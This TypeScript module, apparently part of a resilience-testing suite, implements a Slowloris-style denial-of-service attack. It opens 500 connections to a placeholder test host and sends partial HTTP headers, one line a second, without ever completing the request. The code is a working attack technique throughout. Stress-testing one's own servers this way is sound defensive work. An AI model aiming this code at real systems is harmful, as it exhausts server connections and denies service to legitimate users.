import { type Attack, scaled } from '../attack.ts'
import { connect, readAnswer } from '../wire/connect.ts'
import { hold } from '../wire/hold.ts'

export const slowHeaders: Attack = {
  title: '500 requests whose headers come one line a second and never end',
  begin(aim, tally) {
    hold(scaled(aim, 500), (number) => {
      const socket = connect(aim, tally, number)
      readAnswer(socket, tally)
      socket.write('GET /api/v1/status HTTP/1.1\r\nhost: attacked.test\r\n')
      let line = 0
      const drip = setInterval(() => {
        tally.did('header lines')
        socket.write(`x-slow-${line++}: yes\r\n`)
      }, 1_000)
      socket.once('close', () => clearInterval(drip))
      return socket
    })
  },
}
